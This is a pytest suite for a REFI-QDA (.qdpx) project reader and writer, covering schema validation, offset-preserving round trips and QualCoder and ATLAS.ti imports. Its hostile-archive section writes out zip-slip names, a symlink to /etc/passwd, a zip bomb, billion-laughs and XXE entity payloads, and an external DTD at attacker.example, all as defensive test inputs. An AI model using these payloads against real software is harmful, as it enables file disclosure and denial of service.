"""REFI-QDA projects (.qdpx): exports valid against Project.xsd, round trips that keep every
GUID and code-point offset, projects as QualCoder and ATLAS.ti write them, and hostile
archives refused with the entry named."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from lxml import etree

from techforce.errors import Invalid, Refused
from techforce.research.qdpx import lf_newlines, project_xml, read_qdpx, write_qdpx
from techforce.research.refi import (
    Case,
    Code,
    Coding,
    Note,
    Project,
    Selection,
    TextSource,
    User,
    Variable,
)
from techforce.research.refi_xml import SCHEMAS

FIXTURES = Path(__file__).with_name("fixtures")
P = "urn:QDA-XML:project:1.0"


def guid(n: int) -> str:
    return f"00000000-0000-4000-8000-{n:012x}"


TEXT = "Café e\u0301t\u00e9 🧪 lab work\r\nSecond line: noisy 🧪🧪 days.\n"


def span(text: str, words: str) -> tuple[int, int]:
    start = text.index(words)
    return start, start + len(words)


def sample_project() -> Project:
    ana, ben = User(guid(1), "Ana"), User(guid(2), "Ben")
    noise = Code(guid(11), "Noise", color="#00ff00", definition="Loud.", inclusion="machines", examples="🧪")
    env = Code(
        guid(10), "Environment", color="#ff0000", is_codable=False, children=(noise,), note_refs=(guid(40),)
    )
    lab = span(TEXT, "🧪 lab work")
    days = span(TEXT, "noisy 🧪🧪 days")
    source = TextSource(
        guid(20),
        "Interview 1",
        TEXT,
        selections=(
            Selection(
                guid(21),
                *lab,
                "lab",
                ana.guid,
                datetime(2024, 5, 1, 9, tzinfo=UTC),
                (Coding(guid(22), noise.guid, ana.guid, datetime(2024, 5, 1, 9, 1, tzinfo=UTC)),),
            ),
            Selection(
                guid(23),
                *days,
                "",
                ben.guid,
                None,
                (Coding(guid(24), noise.guid, ben.guid), Coding(guid(25), env.guid)),
                (guid(40),),
                "both",
            ),
        ),
        creating_user=ana.guid,
        created=datetime(2024, 5, 1, 8, 59, tzinfo=timezone(timedelta(hours=2))),
        note_refs=(guid(41),),
        description="first interview",
        values={guid(33): date(2024, 4, 30)},
    )
    variables = (
        Variable(guid(30), "Age", "Integer"),
        Variable(guid(31), "Mentored", "Boolean", "has a mentor"),
        Variable(guid(32), "FTE", "Float"),
        Variable(guid(33), "Interviewed", "Date"),
        Variable(guid(34), "Site", "Text"),
        Variable(guid(35), "Consented", "DateTime"),
    )
    case = Case(
        guid(50),
        "Participant 1",
        "a nurse",
        {
            guid(30): 41,
            guid(31): True,
            guid(32): 0.8,
            guid(34): "North ↑",
            guid(35): datetime(2024, 4, 1, 12, 30),
        },
        (source.guid,),
    )
    notes = (
        Note(
            guid(40), "Noise memo", "Machines 🧪 hum.\r\nAll day.", ana.guid, datetime(2024, 5, 2, tzinfo=UTC)
        ),
        Note(guid(41), "Source memo", "", None),
    )
    return Project(
        "Lab interviews",
        "techforce",
        (ana, ben),
        (env,),
        (source,),
        (case,),
        variables,
        notes,
        ana.guid,
        datetime(2024, 5, 1, tzinfo=UTC),
        "A project",
        (guid(41),),
    )


def project_schema() -> etree.XMLSchema:
    return etree.XMLSchema(etree.parse(str(SCHEMAS / "Project.xsd")))


def zipped(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_folder(folder: Path) -> bytes:
    return zipped(
        {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
    )


def qde(body: str, attrs: str = 'name="p"') -> bytes:
    return f'<?xml version="1.0" encoding="utf-8"?><Project xmlns="{P}" {attrs}>{body}</Project>'.encode()


# ---------------------------------------------------------------- export and round trip


def test_export_is_valid_against_the_standard_schema_and_laid_out_as_the_standard_says() -> None:
    project = sample_project()
    data = write_qdpx(project)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert sorted(archive.namelist()) == ["project.qde", f"sources/{guid(20)}.txt"]
        root = etree.fromstring(archive.read("project.qde"))
        assert archive.read(f"sources/{guid(20)}.txt") == TEXT.encode("utf-8")
    schema = project_schema()
    assert schema.validate(root), schema.error_log
    source = root.find(f"{{{P}}}Sources/{{{P}}}TextSource")
    assert source is not None and source.get("plainTextPath") == f"internal://{guid(20)}.txt"
    assert [c.tag.split("}")[1] for c in root] == [
        "Users",
        "CodeBook",
        "Variables",
        "Cases",
        "Sources",
        "Notes",
        "Description",
        "NoteRef",
    ]


def test_a_minimal_project_is_valid_too() -> None:
    root = project_xml(Project("Empty"))
    assert project_schema().validate(root)
    assert read_qdpx(write_qdpx(Project("Empty")), "empty.qdpx") == Project("Empty", origin="techforce")


def test_round_trip_keeps_guids_names_offsets_codes_users_cases_variables_and_notes() -> None:
    project = sample_project()
    back = read_qdpx(write_qdpx(project), "lab.qdpx")
    assert back == project
    source = back.sources[0]
    assert [source.text[s.start : s.end] for s in source.selections] == ["🧪 lab work", "noisy 🧪🧪 days"]


def test_offsets_are_code_points_not_bytes_or_utf16_units() -> None:
    back = read_qdpx(write_qdpx(sample_project()), "lab.qdpx")
    first = back.sources[0].selections[0]
    # "Café " 5, "e\u0301t\u00e9" 4 code points, " " 1; then "🧪 lab work" 10 code points
    assert (first.start, first.end) == (10, 20)
    assert len(TEXT[:20].encode("utf-8")) == 26 and len(TEXT[:20].encode("utf-16-le")) // 2 == 21


def test_export_keeps_upper_case_guids_and_replaces_characters_xml_cannot_carry() -> None:
    upper = guid(30).upper()
    project = Project(
        "Bell\x07 project",
        variables=(Variable(guid(30), "Age", "Integer"),),
        cases=(Case("{" + guid(50).upper() + "}", "P\x00 1", values={upper: 3}),),
    )
    back = read_qdpx(write_qdpx(project), "upper.qdpx")
    assert back.name == "Bell\ufffd project" and back.cases[0].name == "P\ufffd 1"
    assert back.cases[0].guid == guid(50) and back.cases[0].values == {guid(30): 3}


def test_export_refuses_an_inconsistent_project_and_writes_nothing() -> None:
    project = sample_project()
    source = project.sources[0]
    broken_selection = Selection(guid(90), 5, 999, codings=(Coding(guid(91), guid(404)),))
    broken = Project(
        "x", sources=(TextSource(guid(20), "s", source.text, (broken_selection,), creating_user=guid(405)),)
    )
    with pytest.raises(Invalid) as caught:
        write_qdpx(broken)
    messages = " | ".join(str(p["message"]) for p in caught.value.problems)
    assert "5..999 is not inside the text" in messages
    assert f"refers to code {guid(404)}" in messages and f"refers to user {guid(405)}" in messages
    assert "nothing was exported" in caught.value.message
    with pytest.raises(Invalid, match="is not a Integer value"):
        write_qdpx(
            Project(
                "x",
                variables=(Variable(guid(1), "Age", "Integer"),),
                cases=(Case(guid(2), values={guid(1): "forty"}),),
            )
        )
    with pytest.raises(Invalid, match="also used by"):
        write_qdpx(Project("x", users=(User(guid(1)),), notes=(Note(guid(1).upper(), "n", ""),)))


# ---------------------------------------------------------------- other tools


def test_a_project_as_qualcoder_writes_it() -> None:
    project = read_qdpx(zip_folder(FIXTURES / "qualcoder"), "qualcoder.qdpx")
    assert project.warnings == ()
    assert (project.name, project.origin) == ("Lab interviews", "QualCoder 3.5")
    assert [u.name for u in project.users] == ["default", "second coder"]
    (environment, language) = project.codes
    assert environment.color == "#f781f3" and environment.definition == "The physical working environment."
    assert [(c.name, c.color) for c in environment.children] == [("Noise", "#81bef7")]
    (source,) = project.sources
    assert [source.text[s.start : s.end] for s in source.selections] == [
        "the lab 🧪 was noisy",
        "alle\u0301e au labo",
    ]
    second = source.selections[1]
    assert second.codings[0].code_guid == language.guid and second.note_refs == (project.notes[0].guid,)
    assert second.creating_user == project.users[1].guid
    (case,) = project.cases
    assert list(case.values.values()) == [34, "North"] and case.source_guids == (source.guid,)
    assert project.notes[0].text == "She switched to French here."
    assert project_schema().validate(project_xml(project))


def test_a_project_as_atlas_ti_writes_it() -> None:
    data = zip_folder(FIXTURES / "atlasti")
    project = read_qdpx(data, "atlas.qdpx")
    assert project.created_by == "db54f35c-f8c7-4a3b-9e11-2c3d4e5f6a7b"  # upper case GUIDs read canonically
    support, workload = project.codes
    assert not support.is_codable and support.definition.startswith("Who helps whom.\nKeep it")
    assert (workload.color, workload.inclusion, workload.exclusion) == ("#ffcc00", "rotas, shifts", "pay")
    assert workload.examples == '"The rota was awful"'
    interview, field_note = project.sources
    # The BOM is dropped; the CRLF line ends are kept, so the offsets stay right.
    assert interview.text.startswith("Q: What") and "\r\n" in interview.text
    assert [interview.text[s.start : s.end] for s in interview.selections] == [
        "My mentor 🧪 helped",
        "The rota was awful",
    ]
    assert interview.selections[0].codings[0].code_guid == support.children[0].guid  # {braces} in the CodeRef
    assert interview.values == {
        "11111111-2222-4333-8444-555555555555": True,
        "11111111-2222-4333-8444-555555555556": date(2024, 3, 1),
    }
    assert field_note.text[8:18] == "met weekly"
    assert project.description == "Exported for the REFI-QDA exchange."
    warnings = " | ".join(project.warnings)
    for left_out in ("links", "sets", "graphs", "PDFSource", "byte-order mark"):
        assert left_out in warnings
    again = read_qdpx(write_qdpx(project), "again.qdpx")
    assert again == replace(project, warnings=())


def test_lf_newlines_moves_every_offset_exactly() -> None:
    project = read_qdpx(zip_folder(FIXTURES / "atlasti"), "atlas.qdpx")
    interview = lf_newlines(project.sources[0])
    assert "\r" not in interview.text
    assert [interview.text[s.start : s.end] for s in interview.selections] == [
        "My mentor 🧪 helped",
        "The rota was awful",
    ]
    assert lf_newlines(project.sources[1]) is project.sources[1]
    lone = lf_newlines(TextSource(guid(1), "s", "a\rb\r\nc", (Selection(guid(2), 5, 6),)))
    assert lone.text == "a\nb\nc" and lone.text[lone.selections[0].start : lone.selections[0].end] == "c"


@pytest.mark.parametrize("name", ["sources/one.txt", "Sources/one.txt", "one.txt"])
@pytest.mark.parametrize(
    "path", ["internal://one.txt", "relative://one.txt", "relative:///one.txt", "one.txt"]
)
def test_source_text_is_found_under_the_names_tools_use(name: str, path: str) -> None:
    body = f'<Sources><TextSource guid="{guid(1)}" name="one" plainTextPath="{path}"/></Sources>'
    project = read_qdpx(zipped({"project.qde": qde(body), name: b"hello"}), "p.qdpx")
    assert project.sources[0].text == "hello"


def test_utf16_source_text_is_read() -> None:
    body = f'<Sources><TextSource guid="{guid(1)}" name="one" plainTextPath="internal://one.txt"/></Sources>'
    project = read_qdpx(
        zipped({"project.qde": qde(body), "sources/one.txt": "é🧪".encode("utf-16")}), "p.qdpx"
    )
    assert project.sources[0].text == "é🧪"


# ---------------------------------------------------------------- broken projects


def broken(body: str, files: dict[str, bytes] | None = None) -> Invalid:
    with pytest.raises(Invalid) as caught:
        read_qdpx(zipped({"project.qde": qde(body), **(files or {})}), "broken.qdpx")
    assert caught.value.message.startswith("broken.qdpx") and "Fix:" in caught.value.message
    return caught.value


CODES = f'<CodeBook><Codes><Code guid="{guid(9)}" name="A" isCodable="true"/></Codes></CodeBook>'


def source(selection: str, text: str = "hello world") -> str:
    return f'<Sources><TextSource guid="{guid(1)}" name="doc"><PlainTextContent>{text}</PlainTextContent>{selection}</TextSource></Sources>'


def test_a_source_whose_text_is_missing_is_refused() -> None:
    error = broken(
        f'<Sources><TextSource guid="{guid(1)}" name="doc" plainTextPath="internal://gone.txt"/></Sources>'
    )
    assert (
        "TextSource 'doc'" in error.message
        and "text is missing" in error.message
        and "gone.txt" in error.message
    )
    error = broken(
        f'<Sources><TextSource guid="{guid(1)}" name="doc" richTextPath="internal://doc.docx"/></Sources>'
    )
    assert "doc.docx" in error.message
    assert (
        "not UTF-8"
        in broken(
            f'<Sources><TextSource guid="{guid(1)}" name="d" plainTextPath="internal://d.txt"/></Sources>',
            {"sources/d.txt": b"\xff\xfe\xfa"[1:]},
        ).message
    )


@pytest.mark.parametrize(
    ("selection", "expected"),
    [
        (
            f'<PlainTextSelection guid="{guid(2)}" startPosition="3" endPosition="12"/>',
            "3..12 is not inside the text (0..11",
        ),
        (f'<PlainTextSelection guid="{guid(2)}" startPosition="5" endPosition="2"/>', "5..2 is not inside"),
        (f'<PlainTextSelection guid="{guid(2)}" startPosition="-1" endPosition="2"/>', "-1..2 is not inside"),
        (
            f'<PlainTextSelection guid="{guid(2)}" startPosition="x" endPosition="2"/>',
            "'x' is not a position",
        ),
        (
            f'<PlainTextSelection guid="{guid(2)}" startPosition="0" endPosition="2"><Coding guid="{guid(3)}">'
            f'<CodeRef targetGUID="{guid(404)}"/></Coding></PlainTextSelection>',
            f"refers to code {guid(404)}",
        ),
        (
            f'<PlainTextSelection guid="{guid(2)}" startPosition="0" endPosition="2" creatingUser="{guid(405)}"/>',
            f"refers to user {guid(405)}",
        ),
        (
            f'<PlainTextSelection guid="{guid(2)}" startPosition="0" endPosition="2"><NoteRef targetGUID="{guid(406)}"/>'
            "</PlainTextSelection>",
            f"refers to note {guid(406)}",
        ),
        ('<PlainTextSelection guid="A" startPosition="0" endPosition="2"/>', "'A' is not a GUID"),
        (f'<PlainTextSelection guid="{guid(1)}" startPosition="0" endPosition="2"/>', "is also used by"),
    ],
)
def test_bad_selections_and_unknown_guids_are_refused(selection: str, expected: str) -> None:
    error = broken(CODES + source(selection))
    assert any(expected in str(p["message"]) for p in error.problems), error.problems
    assert "nothing was imported" in error.message


def test_a_case_with_unknown_variable_or_source_and_an_unreadable_value_is_refused() -> None:
    body = (
        f'<Variables><Variable guid="{guid(5)}" name="Age" typeOfVariable="Integer"/></Variables>'
        f'<Cases><Case guid="{guid(6)}" name="P1">'
        "{old}"
        f'<VariableValue><VariableRef targetGUID="{guid(7)}"/><TextValue>x</TextValue></VariableValue>'
        f'<VariableValue><VariableRef targetGUID="{guid(5)}"/><TextValue>forty</TextValue></VariableValue>'
        f'<SourceRef targetGUID="{guid(8)}"/></Case></Cases>'
    )
    old = f'<VariableValue><VariableRef targetGUID="{guid(5)}"/><IntegerValue>old</IntegerValue></VariableValue>'
    assert "'old' cannot be read" in broken(body.replace("{old}", old)).message
    messages = [str(p["message"]) for p in broken(body.replace("{old}", "")).problems]
    assert any(f"refers to variable {guid(7)}" in m for m in messages)
    assert any("'forty' is not a Integer value" in m for m in messages)
    assert any(f"refers to source {guid(8)}" in m for m in messages)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"not a zip", r"not a \.qdpx archive"),
        (zipped({"other.xml": b"<x/>"}), "has no project.qde"),
        (zipped({"project.qde": b"<Project name='p'/>"}), "not a REFI-QDA <Project>"),
        (
            zipped({"project.qde": b'<CodeBook xmlns="urn:QDA-XML:codebook:1.0"/>'}),
            "not a REFI-QDA <Project>",
        ),
        (zipped({"project.qde": b"<Project"}), "not well-formed XML"),
    ],
)
def test_files_that_are_not_refi_projects_are_refused(data: bytes, expected: str) -> None:
    with pytest.raises(Invalid, match=expected) as caught:
        read_qdpx(data, "x.qdpx")
    assert "Fix:" in caught.value.message


# ---------------------------------------------------------------- hostile archives


def with_entry(info: zipfile.ZipInfo, data: bytes = b"x") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("project.qde", qde(""))
        archive.writestr(info, data)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("../evil.txt", "climbs out"),
        ("sources/../../evil.txt", "climbs out"),
        ("/etc/passwd", "absolute path"),
        ("C:/Windows/evil.txt", "absolute path"),
        ("..\\evil.txt", "backslash"),
        ("sources\\evil.txt", "backslash"),
    ],
)
def test_zip_slip_names_are_refused_naming_the_entry(name: str, why: str) -> None:
    with pytest.raises(Refused, match=why) as caught:
        read_qdpx(with_entry(zipfile.ZipInfo(name)), "evil.qdpx")
    assert repr(name) in caught.value.message and "Fix:" in caught.value.message


def test_symlink_entries_are_refused() -> None:
    link = zipfile.ZipInfo("sources/link.txt")
    link.create_system = 3
    link.external_attr = 0o120777 << 16
    with pytest.raises(Refused, match=r"'sources/link\.txt' is a symbolic link"):
        read_qdpx(with_entry(link, b"/etc/passwd"), "evil.qdpx")


def test_encrypted_entries_are_refused() -> None:
    data = bytearray(with_entry(zipfile.ZipInfo("sources/secret.txt"), b"secret"))
    # Set the "encrypted" flag (bit 0) in the entry's central directory record.
    at = data.rindex(b"PK\x01\x02")
    (flags,) = struct.unpack_from("<H", data, at + 8)
    struct.pack_into("<H", data, at + 8, flags | 0x1)
    with pytest.raises(Refused, match=r"'sources/secret\.txt' is encrypted"):
        read_qdpx(bytes(data), "evil.qdpx")


def test_a_200_mb_entry_is_refused_before_it_is_unpacked() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("project.qde", qde(""))
        with archive.open("sources/bomb.txt", "w") as handle:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(200):
                handle.write(chunk)
    data = buffer.getvalue()
    assert len(data) < 1024 * 1024
    with pytest.raises(Refused, match=r"'sources/bomb\.txt' unpacks to 209,715,200 bytes.*zip bomb"):
        read_qdpx(data, "bomb.qdpx")


def test_a_highly_compressed_entry_is_refused_by_its_ratio() -> None:
    data = zipped({"project.qde": qde(""), "sources/dense.txt": b"a" * (4 * 1024 * 1024)})
    with pytest.raises(Refused, match=r"'sources/dense\.txt'.*times its packed size"):
        read_qdpx(data, "dense.qdpx")
    assert read_qdpx(data, "dense.qdpx", max_ratio=10_000).name == "p"


def test_an_entry_that_lies_about_its_size_is_refused_while_reading() -> None:
    body = (
        f'<Sources><TextSource guid="{guid(1)}" name="liar" plainTextPath="internal://liar.txt"/></Sources>'
    )
    data = bytearray(zipped({"project.qde": qde(body), "sources/liar.txt": b"a" * (10 * 1024 * 1024)}))
    # Declare 100 bytes in both the local header and the central directory.
    local = data.index(b"sources/liar.txt") - 30
    assert data[local : local + 4] == b"PK\x03\x04"
    struct.pack_into("<I", data, local + 22, 100)
    central = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 100)
    with pytest.raises(Invalid, match=r"entry sources/liar\.txt is damaged"):
        read_qdpx(bytes(data), "liar.qdpx")


def test_more_bytes_than_allowed_in_all_are_refused() -> None:
    data = zipped({"project.qde": qde(""), "a.bin": b"1" * 600, "b.bin": b"2" * 600})
    with pytest.raises(Refused, match=r"'b\.bin' unpacks to 600 bytes"):
        read_qdpx(data, "big.qdpx", max_bytes=1000)


def test_too_many_entries_are_refused_naming_the_first_over_the_limit() -> None:
    data = zipped({"project.qde": qde(""), **{f"sources/{n}.txt": b"x" for n in range(20)}})
    with pytest.raises(
        Refused, match=r"has 21 entries, more than 10 \(entry 'sources/9.txt' is over the limit\)"
    ):
        read_qdpx(data, "many.qdpx", max_entries=10)


def test_an_archive_larger_than_allowed_or_with_a_huge_directory_is_refused_before_parsing() -> None:
    with pytest.raises(Refused, match=r"big\.qdpx: .* bytes is more than the 1,000 allowed"):
        read_qdpx(
            zipped({"project.qde": qde(""), "a.bin": random.Random(0).randbytes(2000)}),
            "big.qdpx",
            max_bytes=1000,
        )
    data = bytearray(zipped({"project.qde": qde("")}))
    struct.pack_into("<HH", data, data.rindex(b"PK\x05\x06") + 8, 60_000, 60_000)
    with pytest.raises(Refused, match="has 60,000 entries, more than 5,000"):
        read_qdpx(bytes(data), "huge.qdpx")


def test_duplicate_entries_are_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("project.qde", qde(""))
        archive.writestr("sources/a.txt", b"1")
        archive.writestr("Sources/A.txt", b"2")
    with pytest.raises(Refused, match=r"'Sources/A\.txt' appears twice"):
        read_qdpx(buffer.getvalue(), "dup.qdpx")


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE Project [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
        '<!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE Project SYSTEM "http://attacker.example/evil.dtd">',
    ],
)
def test_entity_tricks_in_project_qde_are_refused_naming_the_entry(doctype: str) -> None:
    xml = f'<?xml version="1.0"?>{doctype}<Project xmlns="{P}" name="&c;"><Description>&xxe;</Description></Project>'
    with pytest.raises(Refused, match=r"evil\.qdpx: entry project\.qde: declares a DOCTYPE"):
        read_qdpx(zipped({"project.qde": xml.encode()}), "evil.qdpx")


def test_nothing_is_written_to_disk_while_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    read_qdpx(zip_folder(FIXTURES / "qualcoder"), "qualcoder.qdpx")
    with pytest.raises(Refused):
        read_qdpx(with_entry(zipfile.ZipInfo("../escaped.txt")), "evil.qdpx")
    assert list(tmp_path.iterdir()) == [] and not (tmp_path.parent / "escaped.txt").exists()
